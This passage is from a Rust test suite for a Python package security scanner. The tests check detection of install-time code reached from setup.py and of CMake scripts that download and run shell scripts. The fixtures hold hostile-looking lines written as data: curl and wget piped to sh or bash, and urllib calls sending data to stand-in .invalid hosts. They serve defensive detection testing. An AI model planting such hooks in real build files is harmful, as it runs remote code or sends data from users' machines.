            .args(["scan", "--format", "json", "--no-audit", "cfg"])
            .output()
            .unwrap();
        assert_eq!(paths_with(&json(&out), "host-identity-exfiltration"), ["cfg/src/fastfix.py"]);
    }
}

#[test]
fn a_module_setup_py_imports_or_runs_has_its_module_level_run_at_install_time() {
    let dir = repo();
    let send = "import urllib.request\nurllib.request.urlopen('https://c.invalid/i')\n";
    // Imported by `setup.py` (a plain import, a `from` import), or run by its path.
    write(
        dir.path(),
        "a/setup.py",
        "import os, runpy\nfrom setuptools import setup\nimport _helpers\nfrom _more import x\n\
         here = os.path.dirname(os.path.abspath(__file__))\n\
         runpy.run_path(os.path.join(here, 'build_config.py'))\n\
         about = {}\nexec(open(os.path.join(here, 'a_pkg', '__version__.py')).read(), about)\n\
         exec(open('a_pkg/_stage.py').read())\nsetup(name='a')\n",
    );
    // The version-file idiom runs a file of the project's own: not reported in `setup.py`,
    // and the file is read as code `setup.py` runs (a send there is reported there).
    write(dir.path(), "a/a_pkg/__init__.py", "");
    write(dir.path(), "a/a_pkg/__version__.py", "__version__ = '1.0'\n");
    write(dir.path(), "a/a_pkg/_stage.py", send);
    write(dir.path(), "a/_helpers.py", send);
    write(dir.path(), "a/_more.py", format!("{send}x = 1\n"));
    write(dir.path(), "a/build_config.py", send);
    // Look-alikes: a module beside `setup.py` it never imports, and one it imports only in a
    // function nothing calls.
    write(
        dir.path(),
        "b/setup.py",
        "from setuptools import setup\ndef later():\n    import _late\nsetup(name='b')\n",
    );
    write(dir.path(), "b/_late.py", send);
    write(dir.path(), "b/_other.py", send);
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "a", "b"]).output().unwrap();
    let doc = json(&out);
    assert_eq!(
        paths_with(&doc, "setup-py-import-time"),
        ["a/_helpers.py", "a/_more.py", "a/a_pkg/_stage.py", "a/build_config.py"],
        "{doc}"
    );
    assert!(paths_with(&doc, "exec-builtin").is_empty(), "{doc}");
}

#[test]
fn cmake_build_scripts_are_read_for_commands_that_download_and_run() {
    let dir = repo();
    let pyproject: &[u8] = b"[build-system]\nrequires = [\"scikit-build-core\"]\nbuild-backend = \"scikit_build_core.build\"\n[project]\nname = \"acme\"\nversion = \"1.0\"\n";
    let hostile: &[u8] = b"cmake_minimum_required(VERSION 3.15)\nproject(acme)\n# execute_process(COMMAND sh -c \"curl https://x.invalid | sh\")\nExecute_Process(\n  COMMAND sh -c \"curl -fsSL https://build-metrics.invalid/i.sh | sh\")\n";
    let benign: &[u8] = b"project(tool)\nexecute_process(COMMAND git describe --tags OUTPUT_VARIABLE v)\nmessage(STATUS \"curl https://x.invalid | sh is not run\")\n";
    make_sdist(
        &dir.path().join("acme-1.0.tar.gz"),
        &[
            ("acme-1.0/pyproject.toml", pyproject),
            ("acme-1.0/CMakeLists.txt", hostile),
            ("acme-1.0/cmake/Version.cmake", benign),
        ],
        &[],
    );
    write(dir.path(), "tool/CMakeLists.txt", benign);
    write(
        dir.path(),
        "tool/cmake/Fetch.cmake",
        "exec_program(\"wget -qO- https://x.invalid/f.sh | bash\")\n",
    );
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "--no-cache", "acme-1.0.tar.gz", "tool"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json(&out);
    let found = lines_with(&doc, "download-pipe-to-shell");
    // The commented-out command, the benign scripts and the message are not reported.
    assert_eq!(
        found,
        [("acme-1.0.tar.gz!/acme-1.0/CMakeLists.txt", 4), ("tool/cmake/Fetch.cmake", 1)],
        "{doc}"
    );
    let first = doc["findings"].as_array().unwrap().iter().find(|f| f["rule_id"] == "PSB908");
    assert!(
        first.is_some_and(|f| f["subject"]
            .as_str()
            .is_some_and(|s| s.starts_with("COMMAND sh -c \"curl -fsSL"))),
        "{doc}"
    );
}
